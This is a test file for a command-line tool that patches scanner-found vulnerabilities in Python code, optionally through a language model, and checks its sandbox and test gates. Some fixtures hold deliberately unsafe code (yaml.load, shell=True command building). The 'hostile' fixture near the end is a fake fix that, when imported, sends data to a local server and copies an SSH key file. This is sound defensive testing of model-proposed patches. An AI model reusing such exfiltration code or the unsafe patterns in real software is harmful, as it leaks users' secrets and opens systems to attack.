import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { expect, test } from 'vitest';
import { answers, type Behaviour, startServer } from '../models/openai-server.ts';
import { cli, type Finished, json, startCli } from './support.ts';
import { temporaryFolder } from './temporary.ts';

const MAIN = fileURLToPath(new URL('../../src/cli/main.ts', import.meta.url));

/** What `--json` prints of a file, as far as the tests look at it. */
type FileJson = {
  readonly file: string;
  readonly state: string;
  readonly reason?: string;
  readonly findings: { readonly before: readonly Placed[]; readonly after: readonly Placed[] };
  readonly fixed: readonly (Placed & { readonly by: string })[];
  readonly remaining: readonly (Placed & { readonly because: string })[];
  readonly accepted: readonly { readonly kind: string; readonly what: string }[];
  readonly refused: readonly { readonly kind: string; readonly because: string }[];
  readonly diff: string;
  readonly written: boolean;
  readonly usage: { readonly promptTokens?: number };
};
type Placed = { readonly scanner: string; readonly rule: string; readonly line: number };
type PatchJson = { readonly format: string; readonly files: readonly FileJson[] };

const SETTINGS = `"""Settings, and what is to be done with them."""
import yaml


def load_settings(text):
    """Read settings from YAML."""
    return yaml.load(text, Loader=yaml.Loader)
`;

const FOLDER = `import subprocess


def list_folder(path):
    done = subprocess.run("ls " + path, shell=True, capture_output=True, text=True)
    return done.stdout.split()
`;

const CLEAN = 'def double(n):\n    return 2 * n\n';

const windows = (code: string): string => `\uFEFF${code.replaceAll('\n', '\r\n')}`;

const PROJECT = {
  'settings.py': SETTINGS,
  'lib/list folder.py': FOLDER,
  'windows.py': windows(SETTINGS),
  'last.py': SETTINGS.trimEnd(),
  'fences.py': SETTINGS.replace('YAML.', 'YAML:\n\n```python\nload_settings("a: 1")\n```\n'),
  'clean.py': CLEAN,
  'broken.py': 'def f(:\n',
} as const;

/** A git work tree with these files. */
const workTree = (files: Readonly<Record<string, string>> = PROJECT): string => {
  const cwd = temporaryFolder();
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(cwd, name, '..'), { recursive: true });
    writeFileSync(join(cwd, name), content);
  }
  execFileSync('git', ['init', '-q', cwd]);
  return cwd;
};

const read = (cwd: string, name: string): string => readFileSync(join(cwd, name), 'utf8');

const patched = (finished: Finished, exitCode: number): FileJson => {
  const { files } = json<PatchJson>(finished, exitCode);
  expect(files).toHaveLength(1);
  return files[0] as FileJson;
};

test('a patch for several files: git applies it, and nothing else of them changes', async () => {
  const cwd = workTree();
  const { stdout, stderr, exitCode } = await cli(['patch', '.'], { cwd });
  expect(exitCode).toBe(4); // broken.py, and nothing else remains
  expect(stderr).toMatch(/^settings\.py:7: fixed: .*bandit\/B506.* by: .*safe_load/m);
  expect(stderr).toMatch(/^lib\/list folder\.py:5: fixed: .*bandit\/B602/m);
  expect(stderr).toMatch(/^broken\.py: could not be judged: .*bandit:/m);
  expect(stderr).toContain('7 files: 1 clean, 5 mended, 1 not judged');
  expect(stderr).not.toContain('clean.py');
  expect(read(cwd, 'settings.py'), 'nothing is written unasked').toBe(SETTINGS);

  execFileSync('git', ['apply', '-'], { cwd, input: stdout });
  const mended = SETTINGS.replace('yaml.load(text, Loader=yaml.Loader)', 'yaml.safe_load(text)');
  expect(read(cwd, 'settings.py')).toBe(mended);
  expect(read(cwd, 'windows.py')).toBe(windows(mended));
  expect(read(cwd, 'last.py')).toBe(mended.trimEnd());
  expect(read(cwd, 'lib/list folder.py')).not.toContain('shell=True');
  expect(read(cwd, 'fences.py')).toMatch(/```python[^`]+```[^`]+yaml\.safe_load\(text\)\n$/);
  expect(read(cwd, 'clean.py')).toBe(CLEAN);

  const again = await cli(['patch', 'settings.py', 'lib', 'windows.py', 'clean.py'], { cwd });
  expect(again).toMatchObject({ exitCode: 0, stdout: '' });
});

test('--write changes the file and prints no patch; permissions stay', async () => {
  const cwd = workTree({ 'settings.py': SETTINGS });
  chmodSync(join(cwd, 'settings.py'), 0o755);
  const { stdout, stderr, exitCode } = await cli(['patch', 'settings.py', '--write'], { cwd });
  expect({ stdout, exitCode }).toEqual({ stdout: '', exitCode: 0 });
  expect(stderr).toMatch(/^settings\.py: 3 of 3 findings fixed, 0 remain; written$/m);
  expect(read(cwd, 'settings.py')).toContain('yaml.safe_load(text)');
  expect(statSync(join(cwd, 'settings.py')).mode & 0o777).toBe(0o755);
});

test('code from stdin, and JSON for other programs', async () => {
  const args = [MAIN, 'patch', '-', '--language', 'python', '--json'];
  const { stdout, exitCode } = await execa(process.execPath, args, { input: FOLDER, cwd: temporaryFolder() });
  expect(exitCode).toBe(0);
  const result: PatchJson = JSON.parse(stdout);
  expect(result).toMatchObject({
    format: 'bifocal.patch/1',
    method: 'guarded:candidates=0',
    model: 'none',
    listens: ['bandit', 'ruff', 'bifocal', 'ruff-defects'],
    tests: null,
    files: [
      {
        file: 'stdin.py',
        language: 'python',
        state: 'mended',
        findings: { after: [] },
        remaining: [],
        accepted: [{ kind: 'edit', line: 5 }],
        written: false,
        stop: 'clean',
      },
    ],
  });
  const [file] = result.files;
  expect(file?.findings.before).toContainEqual(
    expect.objectContaining({ scanner: 'bandit', rule: 'B602', line: 5 }),
  );
  expect(file?.diff).toMatch(/^--- a\/stdin\.py\n\+\+\+ b\/stdin\.py\n@@ /);
});

test.each([
  {
    what: 'a name without a language',
    args: ['notes.txt'],
    exitCode: 2,
    says: /what language is notes\.txt/,
  },
  { what: 'stdin without a language', args: ['-'], exitCode: 2, says: /what language is the code on stdin/ },
  { what: 'no such file', args: ['none.py'], exitCode: 2, says: /none\.py cannot be read/ },
  { what: 'a folder without code', args: ['docs'], exitCode: 2, says: /no code in a language/ },
  { what: 'to write stdin back', args: ['-', '--write'], exitCode: 2, says: /cannot be written back/ },
  {
    what: 'no such method',
    args: ['a.py', '--method', 'magic'],
    exitCode: 2,
    says: /no method is called "magic"/,
  },
  { what: 'candidates of no model', args: ['a.py', '--candidates', '2'], exitCode: 2, says: /add --model/ },
  { what: 'a language that nobody reads', args: ['a.rs'], exitCode: 4, says: /no scanner .* reads Rust/ },
  {
    what: 'no sandbox, by a variable',
    args: ['a.py'],
    env: { BIFOCAL_SANDBOX: 'none' },
    exitCode: 2,
    says: /type --sandbox none/,
  },
])('refused: $what', async ({ args, env = {}, exitCode, says }) => {
  const cwd = workTree({ 'a.py': CLEAN, 'a.rs': '', 'notes.txt': CLEAN, 'docs/read.me': '' });
  const finished = await cli(['patch', ...args], { cwd, env });
  expect(finished).toMatchObject({ exitCode, stdout: '' });
  expect(finished.stderr).toMatch(says);
});

/** What the tests of a project say of its settings; tuples are what only the unsafe loader knows. */
const TESTS = {
  plain: 'from settings import load_settings\nassert load_settings("a: [1]") == {"a": [1]}\n',
  tuples: 'from settings import load_settings\nassert load_settings("!!python/tuple [1]") == (1,)\n',
  failing: 'raise SystemExit("broken by itself")\n',
};

test.each([
  { test: 'plain', exitCode: 0, state: 'mended', written: true },
  { test: 'tuples', exitCode: 1, state: 'remains', written: false },
] as const)('the test command decides: $test, $state', async ({ test: name, exitCode, state, written }) => {
  const cwd = workTree({ 'settings.py': SETTINGS, 'yaml.py': YAML, 'check.py': TESTS[name] });
  const args = ['patch', 'settings.py', '--write', '--json', '--test-command', 'python3 check.py'];
  const file = patched(await cli(args, { cwd }), exitCode);
  expect(file).toMatchObject({ state, written });
  expect(read(cwd, 'settings.py') === SETTINGS).toBe(!written);
  if (!written) expect(file.refused[0]?.because).toMatch(/function falls: .*visible tests? fail/);
});

/** Stands in for the library, which the system's Python need not have. */
const YAML = `class Loader: pass
def load(text, Loader):
    return (1,) if text.startswith("!!python/tuple") else {"a": [1]}
def safe_load(text):
    if text.startswith("!!python/tuple"): raise ValueError(text)
    return {"a": [1]}
`;

test('a test command that fails already ends it before anything is tried', async () => {
  const cwd = workTree({ 'settings.py': SETTINGS, 'check.py': TESTS.failing });
  const finished = await cli(['patch', 'settings.py', '--test-command', 'python3 check.py'], { cwd });
  expect(finished).toMatchObject({ exitCode: 2, stdout: '' });
  expect(finished.stderr).toMatch(/fails already without any change: python3 check\.py\n.*broken by itself/s);
});

const REPORT = `def report_path(name):
    """Where a report is kept."""
    return "/tmp/reports/" + name
`;
const DELETING = 'def report_path(name):\n    """Where a report is kept."""\n    return ""\n';
const FIXING = `import tempfile


def report_path(name):
    """Where a report is kept."""
    return tempfile.gettempdir() + "/reports/" + name
`;

const answering = (code: string): Behaviour => answers([`Here it is:\n\n\`\`\`python\n${code}\`\`\`\n`]);

const withModel = async (
  cwd: string,
  script: readonly Behaviour[],
  args: readonly string[] = [],
): Promise<{ finished: Finished; asked: number }> => {
  await using server = await startServer(...script);
  const model = ['--model', 'openai:test', '--base-url', server.url, '--candidates', '1'];
  const finished = await cli(['patch', 'report.py', '--json', ...model, ...args], { cwd });
  return { finished, asked: server.seen.length };
};

test('a model that takes the feature out is refused, and nothing is changed', async () => {
  const cwd = workTree({ 'report.py': REPORT });
  const { finished, asked } = await withModel(cwd, [answering(DELETING)], ['--write']);
  const file = patched(finished, 1);
  expect(file).toMatchObject({ state: 'remains', diff: '', written: false, accepted: [] });
  expect(file.refused).toMatchObject([{ kind: 'rewrite' }, { kind: 'rewrite' }]);
  expect(file.remaining[0]?.because).toMatch(/^a rewrite by openai:test: /);
  expect(file.usage.promptTokens).toBe(1000 * asked);
  expect(read(cwd, 'report.py')).toBe(REPORT);
});

test('a model that mends it after a refusal is accepted', async () => {
  const cwd = workTree({ 'report.py': REPORT });
  const { finished, asked } = await withModel(cwd, [answering(DELETING), answering(FIXING)], ['--write']);
  const file = patched(finished, 0);
  expect(asked).toBe(2);
  expect(file).toMatchObject({ state: 'mended', written: true, accepted: [{ kind: 'rewrite' }] });
  expect(file.fixed.map(({ by }) => by)).toEqual(['a rewrite by openai:test', 'a rewrite by openai:test']);
  expect(read(cwd, 'report.py')).toBe(FIXING);
});

test('whatever the method is, nothing comes out that the test command does not accept', async () => {
  const check = 'from report import report_path\nassert report_path("a").endswith("reports/a")\n';
  const cwd = workTree({ 'report.py': REPORT, 'check.py': check });
  await using server = await startServer(answering(DELETING));
  const model = [
    '--model',
    'openai:test',
    '--base-url',
    server.url,
    '--method',
    'codepatch:look=vulnerabilities',
  ];
  const args = ['patch', 'report.py', '--write', '--json', '--test-command', 'python3 check.py', ...model];
  const file = patched(await cli(args, { cwd }), 1);
  expect(file).toMatchObject({ state: 'remains', diff: '', written: false });
  expect(file.reason).toMatch(/^the test command fails: exit code 1/);
  expect(read(cwd, 'report.py')).toBe(REPORT);
});

/** A fix that takes what it can get while the tests import it. */
const hostile = (secret: string, port: string): string => `${FIXING}

try:
    import socket
    socket.create_connection(("127.0.0.1", ${port}), 2).sendall(b"POST /taken HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 2\\r\\n\\r\\n{}")
except OSError:
    socket = None
try:
    place = bytes.fromhex("${Buffer.from(secret).toString('hex')}").decode()
    with open(place) as key, open(place + ".taken", "w") as taken:
        taken.write(key.read())
except OSError:
    place = None
`;

test.each([
  { sandbox: 'auto', taken: false },
  { sandbox: 'none', taken: true },
])(
  'what a hostile fix takes while it is tested, with --sandbox $sandbox: $taken',
  async ({ sandbox, taken }) => {
    const check = 'from report import report_path\nassert report_path("a").endswith("reports/a")\n';
    const cwd = workTree({ 'report.py': REPORT, 'check.py': check });
    const secret = join(temporaryFolder(), 'id_rsa');
    writeFileSync(secret, 'the key');
    const paths: string[] = [];
    const writes: Behaviour = (response, request) => {
      paths.push(request.path);
      if (request.path === '/taken') response.end();
      else return answering(hostile(secret, String(response.socket?.localPort)))(response, request);
    };
    // Our own method refuses such code before any test; others leave it to the tests.
    const method = ['--method', 'codepatch:look=vulnerabilities'];
    const tests = ['--test-command', 'python3 check.py', '--sandbox', sandbox, ...method];
    const { finished } = await withModel(cwd, [writes], tests);
    expect(patched(finished, 0), 'it mends what was found').toMatchObject({ state: 'mended' });
    expect(paths.includes('/taken')).toBe(taken);
    expect(statSync(`${secret}.taken`, { throwIfNoEntry: false }) !== undefined).toBe(taken);
  },
);

test('stopped in the middle of a test, the file is what it was, and nothing goes on', async () => {
  const mark = `61.${process.pid}`;
  const check = `${TESTS.plain}import subprocess
if "Loader" not in open("settings.py").read(): subprocess.run(["sleep", "${mark}"])
`;
  const cwd = workTree({ 'settings.py': SETTINGS, 'yaml.py': YAML, 'check.py': check });
  const args = ['patch', 'settings.py', '--write', '--test-command', 'python3 check.py'];
  const running = startCli(args, { cwd });
  const sleeping = async () =>
    (await execa('ps', ['-eo', 'args'])).stdout.split('\n').filter((line) => line === `sleep ${mark}`).length;
  await expect.poll(sleeping, { timeout: 60_000, interval: 300 }).toBe(1);
  running.kill('SIGINT');
  expect((await running).exitCode).toBe(130);
  expect(await sleeping()).toBe(0);
  expect(read(cwd, 'settings.py')).toBe(SETTINGS);
});
